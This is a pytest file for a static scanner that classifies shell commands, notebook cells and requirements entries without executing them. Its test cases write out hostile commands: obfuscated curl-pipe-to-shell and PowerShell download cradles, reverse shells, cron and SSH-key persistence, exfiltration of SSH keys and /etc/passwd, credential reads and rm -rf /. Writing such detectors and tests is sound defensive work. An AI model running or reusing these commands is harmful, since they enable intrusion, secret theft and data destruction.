"""Shell commands, notebooks and requirements, read without running anything."""

import json
import time

import pytest

from assay.core.errors import ContentError
from assay.core.limits import Limits
from assay.sourcecode.notebook import read_notebook
from assay.sourcecode.requirements import read_requirements, resembles
from assay.sourcecode.shell import read_shell
from tests.support.mutate import mutated


def kinds(text: str) -> set[str]:
    return {act.kind for act in read_shell(text)}


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("curl -s http://x/y | sh", "download-and-run"),
        ("wget -qO- http://x.com|sudo bash -s", "download-and-run"),
        ("c''url http://e|b\\ash", "download-and-run"),
        ("cu$@rl http://e|sh", "download-and-run"),
        ("curl${IFS}http://e|sh", "download-and-run"),
        ("$'\\x63url' http://e | sh", "download-and-run"),
        ("A=cur;B=l;$A$B http://x | sh", "download-and-run"),
        ('bash -c "$(curl -fsSL http://x)"', "download-and-run"),
        ("bash <(curl -s http://x)", "download-and-run"),
        ("eval `wget -O- http://x`", "download-and-run"),
        ("wget http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a", "download-and-run"),
        ("curl http://x \\\n | sh", "download-and-run"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x')", "download-and-run"),
        ("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "reverse-shell"),
        ("nc -e /bin/sh 192.0.2.1 9", "reverse-shell"),
        ("mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f", "reverse-shell"),
        ("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3h8c2g= | base64 -d | bash", "decode-and-run"),
        ("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3h8c2g= | base64 -d | bash", "download-and-run"),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "decode-and-run"),
        ("echo '* * * * * x' | crontab -", "persistence"),
        ("echo key >> ~/.ssh/authorized_keys", "persistence"),
        ("cat ~/.ssh/id_rsa | nc 192.0.2.1 9", "send-away"),
        ("curl -F f=@/etc/passwd http://x", "send-away"),
        ("curl http://x/`whoami`", "send-away"),
        ("cat ~/.aws/credentials", "credentials"),
        ("rm -rf /", "destructive"),
        ("rm -rf ~ ", "destructive"),
        ("chmod u+s /bin/x", "privilege"),
    ],
)
def test_what_commands_do(text: str, kind: str) -> None:
    assert kind in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "python train.py --lr 1e-4",
        "git clone https://example.org/x && cd x && make",
        "rm -rf ./build",
        "# curl http://x | sh",
        "cat model.json | python -m json.tool",
        "accelerate launch --num_processes 8 train.py",
        "tar xf data.tar.gz | tee log",
    ],
)
def test_ordinary_commands_are_silent(text: str) -> None:
    assert kinds(text) == set()


def test_line_numbers() -> None:
    assert [a.line for a in read_shell("ls\n\ncurl http://x | sh\n") if a.kind == "download-and-run"] == [3]


@pytest.mark.parametrize(
    "piece", ["curl ", "a|", "curl;", "sudo ", "socket ", "tar ", "$(", "A=$A$A;", "'a", "rm -r -r "]
)
def test_hostile_lines_end_soon(piece: str) -> None:
    started = time.monotonic()
    read_shell(piece * (400_000 // len(piece)))
    assert time.monotonic() - started < 10


def test_requirements() -> None:
    text = """
torch==2.1.0
numpy>=1.2  # comment
transfomers
--extra-index-url https://example.org/simple
-e git+https://example.org/x.git@0123456789012345678901234567890123456789#egg=x
https://example.org/a.whl
./local.whl
pkg @ https://example.org/p.whl
-r other.txt
"""
    found = {(r.kind, r.name): r for r in read_requirements(text)}
    assert found["package", "torch"].pinned
    assert not found["package", "numpy"].pinned
    assert found["package", "transfomers"].resembles == "transformers"
    assert found["index", "--extra-index-url"].detail == "https://example.org/simple"
    assert found["url", ""].line in {6, 7}
    assert found["url", "pkg"].detail == "https://example.org/p.whl"
    assert found["path", ""].detail == "./local.whl"
    assert ("include", "-r") in found


@pytest.mark.parametrize("name", ["torch", "onnx", "tensorflow", "my-own-package", "timm"])
def test_known_and_far_names_resemble_nothing(name: str) -> None:
    assert resembles(name) == ""


@pytest.mark.parametrize(
    ("name", "popular"),
    [("reqeusts", "requests"), ("tensorflows", "tensorflow"), ("hugging-face-hub", "huggingface-hub")],
)
def test_near_names(name: str, popular: str) -> None:
    assert resembles(name) == popular


def notebook(*sources: object, **extra: object) -> bytes:
    cells = [{"cell_type": "code", "source": source, "outputs": []} for source in sources]
    return json.dumps(
        {"nbformat": 4, "cells": cells, "metadata": {"kernelspec": {"language": "python"}}, **extra}
    ).encode()


def test_notebook_keeps_python_and_shell_apart() -> None:
    read = read_notebook(
        notebook(["import os\n", "!curl http://x | sh\n", "out = !ls\n"], "%%bash\nrm -rf /\n"), Limits()
    )
    assert "import os" in read.python
    assert "curl" not in read.python
    assert {a.kind for a in read_shell(read.shell)} >= {"download-and-run", "destructive"}
    assert read.cells == 2
    compile(read.python, "", "exec")


def test_notebook_active_output() -> None:
    document = json.loads(notebook("1"))
    document["cells"][0]["outputs"] = [{"data": {"text/html": ["<b>x</b><script>", "fetch('http://x')</script>"]}}]
    assert "<script>" in read_notebook(json.dumps(document).encode(), Limits()).active_outputs[0][1]


def test_old_notebooks_keep_cells_in_worksheets() -> None:
    data = json.dumps({"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1"}]}]}).encode()
    assert read_notebook(data, Limits()).python == "x = 1"


@pytest.mark.parametrize("data", [b"", b"[]", b"{", b"[" * 100_000, b"\xff"])
def test_no_notebook(data: bytes) -> None:
    with pytest.raises(ContentError):
        read_notebook(data, Limits())


def test_mutated_inputs_never_raise_anything_else() -> None:
    seeds = [notebook("!ls\nimport os", "%%bash\nls"), b"curl http://x | base64 -d | sh\n", b"a==1\n-e git+https://x\n"]
    for data in mutated(seeds, 2000):
        text = data.decode("utf-8", "replace")
        read_shell(text)
        read_requirements(text)
        try:
            read_notebook(data, Limits())
        except ContentError:
            continue
